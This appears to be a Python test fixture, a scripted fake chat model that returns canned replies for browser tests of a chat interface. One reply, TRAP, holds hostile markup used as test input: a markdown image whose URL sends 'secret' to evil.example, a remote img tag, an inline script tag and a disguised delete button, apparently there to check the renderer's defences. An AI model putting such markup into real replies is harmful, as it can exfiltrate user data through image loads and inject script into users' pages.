"""A scripted model for the browser tests: it works like a modest real one, and knows nothing but its prompt.

It passes the probe, judges questions, works through long material in the REPL (look, ask about the hits, answer with the
sentence that fits best), and answers the rest directly. A few words in a question call for something special: see `SAYS`.
"""

from __future__ import annotations

import json
import re

from tests.scripted.script import ChatRequest, Reply


def ballad(verses: int) -> str:
    return "\n\n".join(
        f"Verse {number}. The lamp was lit, the ledger read, the harbour lay in rain; "
        f"the keeper counted {number * 7} ships and counted them again."
        for number in range(1, verses + 1)
    )


TRAP = (
    "Here is a picture ![chart](https://evil.example/x.png?d=secret) and <img src='https://evil.example/y.png'> and "
    "<script>document.title='owned'</script> and a [link](https://evil.example/z).\n\n"
    "<button class='do do-chat-delete id-x'>press me</button>"
)
RICH = """The two ways compare like this:

| way | calls | seconds |
|---|---:|---:|
| direct | 1 | 2.4 |
| recursive | 9 | 41.0 |

```python
def area(radius: float) -> float:
    return 3.14159 * radius**2
```

1. Read the page.
2. Say what it means, in **plain** words.
"""
QUOTING = "The diary says “On Monday the heron came back to the pond.” and also “The heron left for good on Friday evening.”"
SAYS = {
    "quote the diary": Reply(QUOTING),
    "long ballad": Reply(
        ballad(400), tokens_per_second=60
    ),  # for who stops it: slow machines get there in time, too
    "ballad": Reply(ballad(40), tokens_per_second=60),
    "remote picture": Reply(TRAP),
    "compare the two": Reply(RICH),
    "think first": Reply(
        "Seventeen.", thinking="The person wants a number. Seventeen is one. It is prime, too."
    ),
    "hold the line": Reply("Yes?", hold_after=0),
    "break off": Reply(ballad(40), tokens_per_second=200, drop_after=400),
}
_SOLUTIONS = {
    "how many lines": 'print(sum("green" in line for line in context.splitlines()))',
    "the weight of box 41": 'import re\nprint(re.search(r"box 41: .*weight=(\\d+)", context).group(1))',
    "the sum of the weights": 'import re\nprint(sum(map(int, re.findall(r"weight=(\\d+)", context))))',
}
_LOOK = """I look first.
```repl
print(len(context))
hits = search(query, k=6)
for hit in hits: print(hit.start, hit.text[:160])
```"""
_ASK = """The hits look right. I ask about each of them.
```repl
prompts = [f"Question: {query}\\n\\nText:\\n{hit.text[:1500]}\\n\\nReply with the sentence that answers, or NONE." for hit in hits[:4]]
notes = llm_query_batched(prompts)
for note in notes: print(note)
```"""
_FINISH = """```repl
found = [note for note in notes if note.strip() != "NONE"]
answer["content"] = found[0] if found else "The material does not say."
answer["ready"] = True
```"""


def reply(request: ChatRequest) -> str | Reply:
    """What the model says to a request."""
    if request.system.startswith("You answer a question by writing Python"):
        turns = sum(message.role == "assistant" for message in request.messages)
        return Reply((_LOOK, _ASK, _FINISH)[min(turns, 2)])
    if request.schema is not None:
        return _structured(request)
    for words, code in _SOLUTIONS.items():
        if words in request.last and "Python code that prints" in request.last:
            return f"```python\n{code}\n```"
    if "Reply with the sentence that answers" in request.last:
        return _reader(request.last)
    asked = request.last.rpartition("\n\n")[2]  # without what is remembered of earlier conversations
    for words, said in SAYS.items():
        if words in asked:
            return said
    return Reply(
        "Good question. I am a scripted model, and I answer in one short sentence.", tokens_per_second=80
    )


def _structured(request: ChatRequest) -> str:
    properties = (request.schema or {}).get("properties", {})
    if "complexity" in properties:
        return json.dumps({"complexity": "SIMPLE", "reason": "one short question"})
    return "{}"


def _reader(prompt: str) -> str:
    question, _, rest = prompt.partition("\n\nText:\n")
    text = rest.rpartition("\n\nReply with")[0]
    wanted = {word for word in re.findall(r"\w+", question.lower()) if len(word) > 3} - {
        "question",
        "what",
        "which",
        "does",
    }
    best = max(text.splitlines(), key=lambda line: len(wanted & set(re.findall(r"\w+", line.lower()))))
    shared = wanted & set(re.findall(r"\w+", best.lower()))
    return f"The document says: “{best.strip()}”" if len(shared) >= min(3, len(wanted)) else "NONE"
